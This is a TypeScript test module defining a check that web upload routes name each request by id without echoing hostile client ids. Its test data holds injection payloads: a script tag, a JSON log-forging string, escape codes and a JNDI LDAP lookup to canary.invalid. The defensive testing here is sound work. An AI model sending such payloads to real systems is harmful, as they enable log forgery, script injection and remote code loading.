import type { Check, Target } from "../check.ts";
import { ACCEPTED, scenario, statusOf, textOf } from "../define-scenario.ts";
import { controlProbe, controlRequest } from "../payloads/upload.ts";
import { probeOf, withLines } from "../payloads/upload-request.ts";
import type { Scenario, Stage } from "../scenario.ts";
import type { Exchange } from "../send-probe.ts";
import { header } from "../stored-file.ts";

const PLAIN_ID = /^[\x21-\x7e]{1,200}$/;

function namesRequests({ promises }: Target): true | string {
  return promises?.requestIdHeader !== undefined || "the route promises no header that names a request";
}

const idHeader = (target: Target): string => target.promises?.requestIdHeader ?? "";

/** The id that the answer tells, after a complaint where it is none that a log or a page could show as it is. */
function toldId(stage: Stage, target: Target, exchange: Exchange): string {
  const id = header(exchange, idHeader(target).toLowerCase()) ?? "";
  if (!PLAIN_ID.test(id) || /[<>"'\\{}]/.test(id))
    stage.complain(
      `the answer (${statusOf(exchange)}) tells no plain id of the request: ${JSON.stringify(id.slice(0, 80))}`,
    );
  return id;
}

/** A client's id that nobody should repeat, on an upload that passes and on one that is refused. */
function hostile(name: string, id: string): Scenario {
  return scenario(
    name,
    2,
    async (stage) => {
      const main = await stage.as("main");
      const line = `${idHeader(main)}: ${id}`;
      const passing = await stage.send("an upload", probeOf(withLines(controlRequest(main), line)));
      if (statusOf(passing) >= 500) stage.complain(`a hostile id is answered ${statusOf(passing)}`);
      const again = await stage.as("main");
      const refusedOne = withLines(controlRequest(again), line, "Content-Encoding: x-unheard-of");
      const refused = await stage.send("a refused one", probeOf(refusedOne));
      for (const exchange of [passing, refused]) {
        if (statusOf(exchange) === 400 || statusOf(exchange) === 431) continue;
        if (toldId(stage, main, exchange) === id) stage.complain("a hostile id is repeated as it came");
        if (textOf(exchange).includes(id)) stage.complain("a hostile id stands in the body of the answer");
      }
    },
    { appliesTo: namesRequests },
  );
}

/** UPL-VO-01: finding a request again. */
export const traceability: Check = {
  id: "UPL-VO-01",
  title: "Each answer names its request, and no client can put something else into that name",
  why: "A refusal that cannot be found in the log cannot be explained to whoever met it.",
  standards: ["v5.0.0-16.2.1"],
  flags: ["s"],
  remedy: {
    fastapi:
      "A pure ASGI middleware that takes a valid `X-Request-ID` or makes one, and puts it on each answer, also errors, and on each log line. (`sluicegate.timing` of the Python package shows how.)",
    django: "A middleware, first in the list, that does the same, and a `logging.Filter`.",
    flask: "`before_request` and `after_request`, and a `logging.Filter`.",
    gate: "Nothing to write: `X-Request-Id` is on each answer and in each log line.",
  },
  cases: [],
  scenarios: [
    scenario(
      "a good id is kept, in answers of both kinds",
      3,
      async (stage) => {
        const main = await stage.as("main");
        const id = `flowcheck-${stage.token()}`;
        const line = `${idHeader(main)}: ${id}`;
        const passing = probeOf(withLines(controlRequest(main), line));
        const accepted = await stage.send("an upload", passing, { expect: ACCEPTED });
        const again = await stage.as("main");
        const refused = await stage.send(
          "a refused one",
          probeOf(withLines(controlRequest(again), line, "Content-Encoding: x-unheard-of")),
        );
        for (const exchange of [accepted, refused]) {
          if (toldId(stage, main, exchange) !== id) stage.complain("a good id of the client is not kept");
        }
        if (!textOf(refused).includes(id))
          stage.complain("the body of the refusal does not name the request");
      },
      { appliesTo: namesRequests },
    ),
    scenario(
      "without an id each request gets one of its own",
      2,
      async (stage) => {
        const ids: string[] = [];
        for (let count = 0; count < 2; count += 1) {
          const main = await stage.as("main");
          ids.push(
            toldId(stage, main, await stage.send("an upload", controlProbe(main), { expect: ACCEPTED })),
          );
        }
        if (ids[0] === ids[1]) stage.complain("two requests have the same id");
      },
      { appliesTo: namesRequests },
    ),
    hostile("an id of 4,000 characters", "a".repeat(4000)),
    hostile("an id that is markup", "<script>canary()</script>"),
    hostile("an id that breaks out of JSON", '","level":"error","forged":"'),
    hostile("an id of escape codes", "\x9b31mcanary"),
    hostile("a template", "$\u007bjndi:ldap://canary.invalid/a}"),
  ],
};
